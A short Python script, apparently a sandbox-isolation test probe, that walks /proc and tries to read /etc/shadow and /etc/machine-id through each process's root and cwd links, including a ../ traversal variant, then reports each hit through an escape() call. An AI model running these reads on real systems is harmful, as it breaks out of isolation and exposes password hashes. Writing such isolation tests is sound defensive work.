"""Leave through the doors /proc has to other roots and folders."""
import os

from attempt import done, escape

for name in sorted(os.listdir("/proc")):
    if not name.isdigit():
        continue
    for door in ("root", "cwd"):
        for path in ("etc/shadow", "etc/machine-id", "../../../../etc/shadow"):
            try:
                found = open(f"/proc/{name}/{door}/{path}", "rb").read()
            except OSError:
                continue
            escape(f"/proc/{name}/{door}/{path}: {found[:20]!r}")
done()
